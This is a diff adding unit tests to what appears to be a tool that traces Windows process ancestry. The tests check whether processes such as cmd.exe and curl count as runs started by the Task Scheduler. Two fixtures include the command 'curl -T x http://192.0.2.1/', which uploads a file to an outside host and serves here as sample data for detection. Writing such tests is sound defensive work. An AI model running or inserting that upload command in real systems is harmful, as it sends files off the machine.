@@ -62,3 +62,33 @@ t.test('a service is named by its script, else by its program', async (t) => {
 t.test('a process of which only the number is known has no actor', async (t) => {
   t.equal(run({}).actor, undefined)
 })
+
+const windows = (executable: string, commandLine: string) => ({ executable, commandLine })
+const SCHEDULE = windows(
+  'C:\\Windows\\System32\\svchost.exe',
+  'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
+)
+
+t.test("below the Task Scheduler's service a run is a task's, named by its script", async (t) => {
+  const cmd = windows('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ""C:\\tools\\shell.cmd""')
+  const curl = windows('C:\\Windows\\System32\\curl.exe', 'curl -T x http://192.0.2.1/')
+  t.match(run(SCHEDULE, cmd, curl), { starter: 'task-scheduler', actor: 'C:\\tools\\shell.cmd' })
+  const engine = windows('C:\\Windows\\System32\\taskeng.exe', 'taskeng.exe {GUID}')
+  t.match(run(engine, curl), { starter: 'task-scheduler', actor: curl.executable })
+  const shared = windows(SCHEDULE.executable, 'svchost.exe -k netsvcs')
+  t.match(run(shared, curl), { starter: 'task-scheduler' })
+})
+
+t.test('another service, a desktop or a shell starts runs that are no task', async (t) => {
+  const curl = windows('C:\\Windows\\System32\\curl.exe', 'curl -T x http://192.0.2.1/')
+  for (const starter of [
+    windows(SCHEDULE.executable, 'svchost.exe -k netsvcs -p -s BITS'),
+    windows('C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'),
+    windows('C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\System32\\cmd.exe"'),
+  ]) {
+    const desktop = windows('C:\\Windows\\explorer.exe', 'explorer.exe')
+    const { starter: found, processes } = run(SCHEDULE, desktop, starter, curl)
+    t.equal(found, undefined, starter.commandLine)
+    t.equal(processes.length, 1)
+  }
+})
